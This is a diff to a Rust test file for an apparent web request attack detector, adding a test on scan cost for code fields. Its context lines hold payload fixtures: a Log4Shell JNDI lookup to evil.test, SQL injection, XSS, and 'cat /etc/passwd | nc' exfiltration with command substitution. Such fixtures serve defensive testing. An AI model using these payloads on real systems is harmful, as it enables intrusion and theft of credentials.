@@ -4,7 +4,7 @@ use std::sync::Arc;
 
 use http::{HeaderMap, Method};
 
-use super::{Engine, FieldKind, FieldRule, Head, Part, Profile, Report, Rule, RuleFile, Settings, Tuning};
+use super::{Engine, FieldKind, FieldRule, Head, Part, Profile, Report, Rule, RuleFile, Settings, Tuning, steps};
 
 const JNDI: &str = "${jndi:ldap://evil.test/a}";
 const NOISE: &str = "' or 1=1 union select sleep(9)-- <script>alert(1)</script><svg onload=alert(1)> ; cat /etc/passwd | nc a.b 1 `id` $(id) \
@@ -41,6 +41,20 @@ fn what_does_not_count_silences_nothing_that_does() {
     let many: Vec<_> = (0..40).map(|_| ("a", NOISE)).chain([("q", JNDI)]).collect();
     let report = ask(&shadow, &many);
     assert!(report.is_attack && report.findings.iter().any(|finding| finding.score > 0), "{report:?}");
+}
+
+#[test]
+fn what_counts_nowhere_in_a_field_takes_no_time_there() {
+    let fields = vec![field("code", FieldKind::Code)];
+    let profile = profile("", Settings { fields, ..Settings::default() });
+    let slow = "exec(exec(exec\n\n".repeat(64);
+    let steps_in = |name: &str| {
+        let before = steps::taken();
+        let report = ask(&profile, &[(name, &slow)]);
+        (steps::taken() - before, report.findings.iter().any(|finding| finding.rule == "structure.too-costly"))
+    };
+    let (text, code) = (steps_in("q"), steps_in("code"));
+    assert!(text.1 && !code.1 && code.0 * 4 < text.0, "{text:?} {code:?}");
 }
 
 #[test]
